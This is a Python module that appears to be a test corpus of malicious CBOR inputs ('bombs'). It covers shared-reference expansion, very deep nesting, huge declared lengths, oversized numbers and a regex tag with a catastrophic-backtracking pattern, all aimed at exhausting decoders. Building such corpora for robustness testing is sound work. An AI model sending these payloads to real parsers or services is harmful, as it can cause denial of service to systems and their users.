"""CBOR that costs more than it is long: what decoders and those who write it again have fallen over."""

from __future__ import annotations

from typing import Final

import cbor2


def shared(levels: int, width: int) -> bytes:
    """Lists of one list many times, and so on: a few bytes for each level, and `width` times as many written out."""

    def level(number: int) -> bytes:
        if number == levels:
            return b"\xd8\x1c\x80"
        again = (b"\xd8\x1d" + cbor2.dumps(number + 1)) * (width - 1)
        return b"\xd8\x1c" + bytes([0x80 | width]) + level(number + 1) + again

    return level(0)


BOMBS: Final = {
    "a list that is shared many times": shared(40, 10),
    "a key that is one": b"\xa1\xd8\x1c" + shared(20, 10)[2:] + b"\x00",
    "a text that is said many times": b"\xd9\x01\x00\x99\x03\xe8\x79\x75\x30" + b"a" * 30_000 + b"\xd8\x19\x00" * 999,
    "nested lists": b"\x81" * 48_000 + b"\x00",
    "nested maps": b"\xa1\x00" * 24_000 + b"\x00",
    "nested tags": b"\xc1" * 48_000 + b"\x00",
    "lists without an end": b"\x9f" * 48_000,
    "a text in pieces": b"\x7f" + b"\x61a" * 20_000 + b"\xff",
    "a list of 2^64 - 1": b"\x9b" + b"\xff" * 8,
    "a map of 2^63": b"\xbb\x80" + bytes(7),
    "bytes of 2^62": b"\x5b\x40" + bytes(7),
    "a number of a kind that is kept for later": b"\x1c",
    "a number of great size": b"\xc2\x59\xbb\x80" + b"\xff" * 48_000,
    "a fraction of great size": b"\xc5\x82\x1b\x7f" + b"\xff" * 7 + b"\x03",
    "a pattern": b"\xd8\x23\x78\x20" + b"(a+)+" * 6 + b"$$",
    "nothing": b"",
}
